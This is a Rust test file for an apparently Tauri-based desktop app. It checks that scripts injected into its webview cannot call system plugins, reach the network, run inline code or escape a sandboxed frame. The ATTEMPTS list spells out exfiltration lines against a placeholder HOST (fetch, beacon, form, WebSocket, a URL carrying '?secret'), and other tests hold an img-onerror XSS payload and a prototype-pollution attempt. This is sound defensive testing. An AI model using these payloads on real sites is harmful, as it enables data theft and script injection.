//! The page of the window as an attacker would use it: with scripts of their own in it.

use std::net::TcpListener;
use std::time::Duration;

use serde_json::Value;

use crate::driven::Driven;
use crate::stage::poll;

/// A script in the page can ask what the page can ask, and nothing of the system.
#[tokio::test]
async fn a_script_in_the_page_reaches_nothing_of_the_system() {
    let Some(window) = Driven::start("guards", &["--rehearsal", "--lang", "en"]).await else {
        return;
    };
    window.wait_for("main").await;
    for command in [
        "plugin:window|close",
        "plugin:window|create",
        "plugin:webview|create_webview_window",
        "plugin:event|emit",
        "plugin:path|resolve_directory",
        "plugin:resources|close",
        "plugin:app|version",
        "plugin:menu|new",
        "plugin:fs|read_text_file",
        "plugin:shell|open",
        "plugin:window-state|filename",
        "not_a_command",
    ] {
        let asked = format!("return await window.__TAURI_INTERNALS__.invoke('{command}', {{}})");
        let answer = window.answer_of(&asked).await;
        let refused = answer
            .as_str()
            .is_some_and(|text| text.starts_with("refused: "));
        assert!(refused, "{command}: {answer}");
    }
    let own = window
        .answer_of("return (await window.__TAURI_INTERNALS__.invoke('opening', {})).version")
        .await;
    assert_eq!(own, env!("CARGO_PKG_VERSION"));
    window.close().await;
}

/// Nothing can be sent out of the page: no request, no picture, no form, no new window, no other page.
#[tokio::test]
async fn nothing_leaves_the_page_for_the_network() {
    let Some(window) = Driven::start("outside", &["--rehearsal", "--lang", "en"]).await else {
        return;
    };
    // The page that a first start leads to: from here it stays where it is.
    window.wait_for(".welcome").await;
    let before = window.page.current_url().await.unwrap();
    let mut said = Vec::new();
    for attempt in ATTEMPTS {
        let listener = TcpListener::bind("127.0.0.1:0").unwrap();
        listener.set_nonblocking(true).unwrap();
        let host = listener.local_addr().unwrap().to_string();
        let answer = window.answer_of(&attempt.replace("HOST", &host)).await;
        assert_ne!(answer, "sent", "{attempt}");
        // What is sent late counts too.
        let patience = Duration::from_millis(400);
        if let Some(bytes) = poll(patience, || came_to(&listener)) {
            said.push(format!("{attempt}: {bytes:?}"));
        }
    }
    assert!(said.is_empty(), "{said:#?}");
    assert_eq!(window.page.current_url().await.unwrap(), before);
    window.close().await;
}

/// Ways out of a page, each with a word at its end.
const ATTEMPTS: &[&str] = &[
    "await fetch('http://HOST/fetch', {mode: 'no-cors'}); return 'sent'",
    "const x = new Image(); x.src = 'http://HOST/image'; return 'tried'",
    "return navigator.sendBeacon ? String(navigator.sendBeacon('http://HOST/beacon', 'x')) : 'none'",
    "new WebSocket('ws://HOST/socket'); return 'tried'",
    "new EventSource('http://HOST/events'); return 'tried'",
    "const s = document.createElement('script'); s.src = 'http://HOST/script'; document.head.append(s); return 'tried'",
    "const l = document.createElement('link'); l.rel = 'stylesheet'; l.href = 'http://HOST/style'; document.head.append(l); return 'tried'",
    "const l = document.createElement('link'); l.rel = 'prefetch'; l.href = 'http://HOST/prefetch'; document.head.append(l); return 'tried'",
    "const f = document.createElement('form'); f.action = 'http://HOST/form'; document.body.append(f); f.submit(); return 'tried'",
    "const f = document.createElement('iframe'); f.src = 'http://HOST/frame'; document.body.append(f); return 'tried'",
    "return String(window.open('http://HOST/window'))",
    "const a = document.createElement('a'); a.href = 'http://HOST/download'; a.download = 'x'; document.body.append(a); a.click(); return 'tried'",
    "location.href = 'http://HOST/page?secret'; return 'tried'",
    "const l = document.createElement('link'); l.rel = 'preconnect'; l.href = 'http://HOST/'; document.head.append(l); return 'tried'",
    "const l = document.createElement('link'); l.rel = 'dns-prefetch'; l.href = 'http://HOST/'; document.head.append(l); return 'tried'",
];

/// What came to the listener: nothing, or a connection with its first bytes.
fn came_to(listener: &TcpListener) -> Option<String> {
    let (mut stream, _) = listener.accept().ok()?;
    let mut bytes = [0; 200];
    stream.set_nonblocking(false).unwrap();
    stream
        .set_read_timeout(Some(Duration::from_millis(500)))
        .unwrap();
    let read = std::io::Read::read(&mut stream, &mut bytes).unwrap_or_default();
    Some(String::from_utf8_lossy(&bytes[..read]).into_owned())
}

/// Text of a page cannot become a script: neither inline nor evaluated.
#[tokio::test]
async fn text_in_the_page_never_becomes_a_script() {
    let Some(window) = Driven::start("inline", &["--rehearsal", "--lang", "en"]).await else {
        return;
    };
    window.wait_for("main").await;
    let inline = window
        .answer_of(
            "window.came = 0; const s = document.createElement('script'); s.textContent = 'window.came = 1'; \
             document.head.append(s); const d = document.createElement('div'); \
             d.innerHTML = '<img src=x onerror=\"window.came = 2\">'; document.body.append(d); \
             await new Promise((later) => setTimeout(later, 300)); return window.came",
        )
        .await;
    assert_eq!(inline, 0);
    let frozen = window
        .answer_of(
            "try { Object.prototype.polluted = 1 } catch {} return ({}).polluted === undefined",
        )
        .await;
    assert_eq!(frozen, Value::Bool(true));
    window.close().await;
}

/// The contract of the platform is shown in a frame without scripts, forms and origin.
#[tokio::test]
async fn a_frame_with_a_contract_runs_nothing_and_is_shown() {
    let Some(window) = Driven::start("frame", &["--rehearsal", "--lang", "en"]).await else {
        return;
    };
    window.wait_for("main").await;
    let shown = window
        .answer_of(
            "window.came = 0; window.addEventListener('message', () => { window.came += 1 }); \
             const f = document.createElement('iframe'); f.setAttribute('sandbox', ''); \
             f.srcdoc = '<p>Contract</p><script>parent.postMessage(1, \"*\")</scr' + 'ipt>'; \
             const loaded = new Promise((later) => f.addEventListener('load', () => later('loaded'))); \
             document.body.append(f); \
             const timeout = new Promise((later) => setTimeout(() => later('not loaded'), 3000)); \
             const how = await Promise.race([loaded, timeout]); \
             await new Promise((later) => setTimeout(later, 300)); return how + ' ' + window.came",
        )
        .await;
    assert_eq!(shown, "loaded 0");
    window.close().await;
}
